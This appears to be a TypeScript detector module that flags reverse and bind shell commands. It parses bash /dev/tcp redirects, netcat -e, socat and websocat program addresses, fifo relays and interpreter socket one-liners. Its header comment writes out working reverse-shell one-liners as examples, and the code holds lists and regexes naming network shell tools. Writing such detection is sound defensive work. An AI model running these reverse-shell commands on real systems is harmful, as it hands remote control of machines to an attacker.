/**
 * reverse-shell: a shell or an interpreter whose input and output are a network connection, towards a remote
 * host (reverse) or from whoever connects (bind). Five shapes, each read off the analysis, not the text:
 * - a bash `/dev/tcp|udp/HOST/PORT` socket opened for a code runner (`bash -i >& /dev/tcp/h/p 0>&1`), kept open
 *   by `exec` for the rest of the string (`exec 5<>/dev/tcp/h/p; sh <&5 >&5`), or read in both directions;
 * - a netcat that runs a program for its peer (`nc -e /bin/sh`, `nc -c bash`, `ncat --exec`, `--sh-exec`);
 * - socat joining a program address (`EXEC:`, `SYSTEM:`) to a socket address, websocat likewise (`sh-c:`, `exec:`);
 * - any other relay given a shell as an option's value beside a host and port (`sbd -e bash H P`, shell-to-socket.ts);
 * - a shell that reads its program from stdin beside a raw network client in the same string (the fifo relay
 *   `cat f | sh -i 2>&1 | nc h p > f`);
 * - an interpreter one-liner that opens a socket and runs a shell or rewires descriptors onto it (`socket…dup2`,
 *   `fsockopen…exec`, awk's `/inet/tcp`), or code in a language nobody here reads with a socket, a literal
 *   endpoint and a shell door in one argument (`jrunscript -e`, `swipl -g`: socket-code-args.ts).
 * A plain socket read or write (`echo > /dev/tcp/localhost/5432` as a port check) is not one.
 */
import { posix } from "node:path";
import { interpreterOf, type Redirect, type ShellFinding, type SimpleCommand, SHELLS } from "../shell/index.ts";
import { commandsOf, findingsOf, longValues, operands, shortLetters, shown } from "./commands.ts";
import { shellToSocket } from "./shell-to-socket.ts";
import { socketCodeArgument } from "./socket-code-args.ts";
import type { Check } from "./types.ts";

export const reverseShell: Check = (op) => {
  const commands = commandsOf(op);
  for (const cmd of commands) {
    const reason =
      socketRedirect(cmd) ??
      netcatExec(cmd) ??
      socatExec(cmd) ??
      websocatExec(cmd) ??
      shellToSocket(cmd) ??
      socketCodeArgument(cmd);
    if (reason !== null) return reason;
  }
  const relay = shellRelay(commands);
  if (relay !== null) return relay;
  for (const f of findingsOf(op)) {
    const reason = socketCode(f);
    if (reason !== null) return reason;
  }
  return null;
};

/** Programs that run what they read or are given: a socket on one of them is a remote shell. */
const CODE_RUNNERS: ReadonlySet<string> = new Set([
  "eval",
  "source",
  ".",
  "exec",
  "xargs",
  "env",
  "command",
  "builtin",
]);

function runsCode(program: string): boolean {
  return (
    SHELLS.has(program) ||
    CODE_RUNNERS.has(program) ||
    interpreterOf(program) !== null ||
    program.startsWith("$") ||
    program.includes("`")
  );
}

/** The `/dev/tcp|udp/…` socket a redirect opens, as bash reads it; null otherwise. */
function socketOf(r: Redirect): string | null {
  if (r.target === null) return null;
  const path = posix.normalize(r.target);
  return /^\/dev\/(?:tcp|udp)\/[^/]+\/[^/]+$/.test(path) ? path : null;
}

function socketRedirect(cmd: SimpleCommand): string | null {
  for (const r of cmd.redirects) {
    const socket = socketOf(r);
    if (socket === null) continue;
    if (cmd.program === "exec") return `exec keeps ${socket} open for the commands that follow (reverse shell)`;
    if (runsCode(cmd.program)) return `${cmd.program} runs with its input or output on ${socket} (reverse shell)`;
    if (r.mode === "readwrite") return `${shown(cmd)} reads and writes ${socket} (reverse shell)`;
  }
  return null;
}

const NETCATS: ReadonlySet<string> = new Set([
  "nc",
  "ncat",
  "netcat",
  "nc.traditional",
  "nc.openbsd",
  "pwncat",
  "cryptcat",
]);
/** netcat short options that take a value (across the traditional, OpenBSD and nmap variants). */
const NC_VALUE_LETTERS = "ceIimOpqsTVwXxbPMg";
const NC_EXEC_LONG = ["--exec", "--sh-exec", "--lua-exec"];

function netcatExec(cmd: SimpleCommand): string | null {
  if (!NETCATS.has(cmd.program)) return null;
  const letters = shortLetters(cmd, NC_VALUE_LETTERS);
  const long = NC_EXEC_LONG.some((o) => longValues(cmd, o).length > 0 || cmd.args.includes(o));
  if (letters.has("e") || letters.has("c") || long)
    return `${shown(cmd)} hands a shell to its peer (reverse or bind shell)`;
  return null;
}

/** socat address types that stay on this machine; any other is a socket (tcp, udp, openssl, unix, socks, …). */
const LOCAL_ADDRESSES: ReadonlySet<string> = new Set([
  "-",
  "stdio",
  "stdin",
  "stdout",
  "stderr",
  "file",
  "open",
  "create",
  "gopen",
  "pipe",
  "fd",
  "pty",
  "readline",
  "exec",
  "system",
  "shell",
]);
const PROGRAM_ADDRESSES: ReadonlySet<string> = new Set(["exec", "system", "shell"]);

function socatExec(cmd: SimpleCommand): string | null {
  if (cmd.program !== "socat") return null;
  const types = operands(cmd).map((a) => /^[^:,]*/.exec(a)![0].toLowerCase());
  const runs = types.some((t) => PROGRAM_ADDRESSES.has(t));
  const socket = types.some((t) => !LOCAL_ADDRESSES.has(t) && !/^\d+$/.test(t));
  if (runs && socket) return `${shown(cmd)} joins a program to a socket (reverse or bind shell)`;
  return null;
}

/** websocat's program specifiers (`sh-c:bash`, `exec:/bin/sh`, `cmd:…`); any other operand is a socket of some kind. */
const WEBSOCAT_PROGRAM = /^(?:[\w-]+:)*(?:sh-c|exec|cmd):/i;

/** websocat joining a program to its websocket or socket side (`websocat -b tcp-l:0.0.0.0:4444 sh-c:bash`). */
function websocatExec(cmd: SimpleCommand): string | null {
  if (cmd.program !== "websocat") return null;
  const words = operands(cmd, ["--exec", "-H", "--header", "--protocol", "--origin", "--ping-interval"]);
  const runs = words.some((w) => WEBSOCAT_PROGRAM.test(w)) || longValues(cmd, "--exec").length > 0;
  const socket = words.some(
    (w) => !WEBSOCAT_PROGRAM.test(w) && w !== "-" && !/^(?:stdio|mirror|literal|readfile|writefile):?/i.test(w),
  );
  if (runs && socket) return `${shown(cmd)} joins a program to a socket (reverse or bind shell)`;
  return null;
}

/** Clients that hold a raw connection open, whose data a shell beside them can read and answer. */
const RAW_CLIENTS: ReadonlySet<string> = new Set([...NETCATS, "socat", "telnet", "openssl", "gnutls-cli", "ncat"]);

function shellRelay(commands: readonly SimpleCommand[]): string | null {
  const client = commands.find(
    (c) =>
      RAW_CLIENTS.has(c.program) &&
      (c.program !== "openssl" || c.args.includes("s_client") || c.args.includes("s_server")),
  );
  if (client === undefined) return null;
  const shell = commands.find(
    (c) => SHELLS.has(c.program) && operands(c, ["-o", "-O", "--rcfile", "--init-file"]).length === 0,
  );
  if (shell === undefined) return null;
  return `${shell.program} reads its commands beside ${client.program}, a raw network connection (reverse shell)`;
}

/**
 * In one-liner code: a socket is opened, and a shell is run or descriptors are rewired. asyncio's streams
 * (`open_connection` … `create_subprocess_shell`) are the same shape without socket or dup2 (docs/adr/0761).
 */
const NET =
  /\b(?:socket|fsockopen|pfsockopen|stream_socket_(?:client|server)|TCPSocket|TCPServer|UDPSocket|IO::Socket|createConnection|createServer|net\.connect|Socket|open_connection|open_unix_connection|start_server)\b|require\(\s*['"](?:node:)?(?:net|dgram|tls)['"]|\/inet6?\/(?:tcp|udp)\//i;
const RUN =
  /\b(?:dup2?|pty|spawn\w*|exec\w*|system|popen\w*|proc_open|passthru|shell_exec|child_process|subprocess|create_subprocess_(?:shell|exec)|fork|open3|pipe)\b|`|\|&/;

function socketCode(f: ShellFinding): string | null {
  if (f.kind !== "interpreter-code") return null;
  if (f.language === "awk" && /\/inet6?\/(?:tcp|udp)\//.test(f.code))
    return "awk opens a network socket (/inet/…) and talks to it (reverse shell)";
  if (NET.test(f.code) && RUN.test(f.code))
    return `${f.language} one-liner opens a socket and runs code for it (reverse shell)`;
  return null;
}
